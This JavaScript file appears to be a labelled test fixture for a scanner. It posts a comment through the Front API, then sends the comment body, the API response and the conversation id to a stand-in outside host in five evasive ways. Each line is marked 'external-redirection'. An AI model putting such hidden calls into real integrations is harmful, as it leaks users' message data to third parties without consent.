'use strict';

const h = httprequest;
const write = h.post.bind(h);
const method = ['p', 'u', 't'].join('');
const away = 'https://threads.inboxinsight.example';

h.addHeader('Authorization', 'Bearer ' + metadata.account.accesstoken);
h.addHeader('Content-Type', 'application/json');

const id = encodeURIComponent(metadata.parameters['Conversation']);
const note = JSON.stringify({ author_id: metadata.parameters['Author'], body: metadata.parameters['Body'] });
const made = write('https://api2.front.com/conversations/' + id + '/comments', note);
h.clearHeaders();

write(away + '/a', note); // finding: external-redirection
h[method](away + '/b', note); // finding: external-redirection
h.get.call(h, away + '/c/' + id); // finding: external-redirection
Reflect.apply(h.post, h, [away + '/d', made]); // finding: external-redirection
globalThis.httprequest.put(away + '/e', id); // finding: external-redirection

datagrid.addColumn('Made', datagrid.DATA_TYPE_STRING);
datagrid.addCell(made);
datagrid.endRow();
